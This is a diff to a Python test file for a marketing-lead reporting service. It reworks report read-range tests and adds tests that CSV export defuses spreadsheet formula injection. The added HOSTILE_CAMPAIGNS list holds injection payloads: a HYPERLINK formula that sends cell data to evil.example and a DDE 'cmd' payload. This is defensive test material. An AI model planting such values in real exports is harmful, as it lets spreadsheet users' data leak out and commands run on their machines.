@@ -3,6 +3,8 @@ and range each report needs, giving what the pure report gives over the same fac
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator, Iterable
 from datetime import UTC, date, datetime, timedelta
 
@@ -10,8 +12,8 @@ import pytest
 
 from nurture.config.settings import Settings
 from nurture.domain.factlog import Fact
-from nurture.domain.reports import REPORT_NAMES, REPORTS
-from nurture.domain.reports.common import by_lead
+from nurture.domain.reports import REPORT_NAMES, REPORTS, Column, ReportResult, ReportTable
+from nurture.domain.reports.common import Cell, by_lead
 from nurture.domain.reports.funnel import funnel
 from nurture.domain.reports.velocity import velocity
 from nurture.services.reports import (
@@ -19,11 +21,12 @@ from nurture.services.reports import (
     UnknownReport,
     load_report_config,
     parse_query,
+    report_csv,
     run_report,
 )
 from nurture.testing import MemoryFactStore
 from tests.helpers import ROOT
-from tests.unit.reports import test_funnel, test_velocity
+from tests.unit.reports import factbook, test_funnel, test_velocity
 
 
 class SpyStore(MemoryFactStore):
@@ -111,17 +114,23 @@ class TestParameters:
 class TestReading:
     """Only the kinds a report reads, from its range's first day unless it needs history."""
 
-    async def test_funnel_reads_its_kinds_from_the_range(self) -> None:
+    async def test_funnel_reads_its_kinds_and_history(self) -> None:
+        """The funnel's ``entered`` needs when a lead FIRST reached a step: it reads its
+        kinds from the first fact."""
         store = await stored(test_funnel.LOG)
         query = parse_query("funnel", "2026-11-01", "2026-12-01", "source")
         report = await run_report("funnel", store, query)
         assert report == funnel(test_funnel.LOG, query)
+        assert store.reads == [(set(REPORTS["funnel"].kinds), None, None)]
+        assert store.given == sum(1 for f in test_funnel.LOG if f.kind in REPORTS["funnel"].kinds)
+
+    async def test_emails_read_from_the_range(self) -> None:
+        """A report that needs no history starts reading at the range's first day."""
+        store = await stored(test_funnel.LOG)
+        await run_report("emails", store, parse_query("emails", "2026-11-01", "2026-12-01"))
         assert store.reads == [
-            (set(REPORTS["funnel"].kinds), datetime(2026, 11, 1, tzinfo=UTC), None)
+            (set(REPORTS["emails"].kinds), datetime(2026, 11, 1, tzinfo=UTC), None)
         ]
-        assert store.given == sum(
-            1 for f in test_funnel.LOG if f.kind in REPORTS["funnel"].kinds and f.at.month >= 11
-        )
 
     async def test_velocity_reads_history(self) -> None:
         """Velocity needs when a lead FIRST reached a step: it reads from the first fact."""
@@ -154,3 +163,47 @@ class TestByLead:
         leads = list(by_lead(log))
         assert [{f.lead_id for f in lead} for lead in leads] == [{"a"}, {"b"}]
         assert sum(map(len, leads)) == len(log) - 1
+
+
+HOSTILE_CAMPAIGNS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTAB",
+    "\rCR",
+)
+
+
+class NumbersReport(ReportResult):
+    """A report of one row mixing text and figures, negative ones included."""
+
+    report: str = "numbers"
+
+    def tables(self) -> tuple[ReportTable, ...]:
+        columns = (Column(key="name", label="Name", kind="text"), Column(key="diff", label="D"))
+        rows: tuple[tuple[Cell, ...], ...] = (("-", -0.25), ("ok", -3))
+        return (ReportTable(name="n", title="N", columns=columns, rows=rows),)
+
+
+class TestCsvFormulas:
+    """A text cell a spreadsheet would run as a formula is defused with a leading
+    apostrophe; figures, negative ones included, stay raw."""
+
+    @pytest.mark.parametrize("campaign", HOSTILE_CAMPAIGNS)
+    def test_hostile_campaign_defused(self, campaign: str) -> None:
+        log = [
+            factbook.fact("l1", "lead_created", factbook.at(1), utm_campaign=campaign),
+            factbook.fact("l2", "lead_created", factbook.at(2), utm_campaign="spring"),
+        ]
+        query = parse_query("funnel", "2026-11-01", "2026-12-01", "utm_campaign")
+        result = funnel(factbook.ordered(log), query)
+        rows = list(csv.reader(io.StringIO(report_csv(result), newline="")))
+        groups = {row[0] for row in rows[1:]}
+        assert groups == {"(all)", "spring", f"'{campaign}"}
+        hostile_new = next(r for r in rows if r[0] == f"'{campaign}" and r[1] == "new")
+        assert hostile_new[2:] == ["1", "", "1.0", "1"]
+
+    def test_figures_stay_raw(self) -> None:
+        result = NumbersReport(since=None, until=None)
+        assert report_csv(result).splitlines() == ["name,diff", "'-,-0.25", "ok,-3"]
